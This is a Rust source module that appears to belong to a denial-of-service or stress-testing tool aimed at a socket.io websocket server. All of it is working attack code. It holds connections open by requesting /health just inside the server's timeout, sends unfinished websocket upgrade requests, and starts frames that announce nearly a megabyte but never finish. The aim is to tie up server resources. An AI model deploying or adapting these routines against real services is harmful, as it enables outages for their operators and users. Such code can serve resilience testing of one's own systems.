//! Connections that are held and never do anything useful.

use std::{io, time::Duration};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
};

use super::{Attacker, Ready};
use crate::{crowd, source::Source};

/// The interval of requests: a little shorter than the server requires.
const REQUEST_INTERVAL: Duration = Duration::from_secs(5);
/// The announced length of a message, about the largest allowed, and the bytes sent of it: it never ends.
const MESSAGE: usize = 999_000;
const SENT: usize = 990_000;

async fn read_to_end(stream: &mut TcpStream) -> io::Result<()> {
    let mut buffer = [0; 1024];
    while stream.read(&mut buffer).await? > 0 {}
    Ok(())
}

/// Requests the health page from time to time.
pub async fn http(attacker: &Attacker, source: Source, ready: &mut Ready) -> io::Result<()> {
    let mut stream = attacker.connect(source).await?;
    let request = format!(
        "GET /health HTTP/1.1\r\nHost: a\r\n{}\r\n",
        source.headers()
    );
    let mut requests = tokio::time::interval(REQUEST_INTERVAL);
    let mut buffer = [0; 1024];
    loop {
        tokio::select! {
            _ = requests.tick() => stream.write_all(request.as_bytes()).await?,
            read = stream.read(&mut buffer) => match read? {
                0 => return Ok(()),
                _ => ready.set(attacker),
            }
        }
    }
}

/// Begins a request.
pub async fn handshake(attacker: &Attacker, source: Source, ready: &mut Ready) -> io::Result<()> {
    let mut stream = attacker.connect(source).await?;
    let begin = format!(
        "GET /socket.io/?EIO=3&transport=websocket HTTP/1.1\r\n{}",
        source.headers()
    );
    stream.write_all(begin.as_bytes()).await?;
    ready.set(attacker);
    read_to_end(&mut stream).await
}

/// Begins a message on a link that never joins.
pub async fn message(attacker: &Attacker, source: Source, ready: &mut Ready) -> io::Result<()> {
    let mut link = attacker.link(source).await?;
    let mut begin = vec![0x82, 0x80 | 127];
    begin.extend((MESSAGE as u64).to_be_bytes());
    begin.extend([1, 2, 3, 4]);
    begin.resize(begin.len() + SENT, 7);
    link.write(&begin).await?;
    drop(begin);
    ready.set(attacker);
    crowd::stay(link).await
}
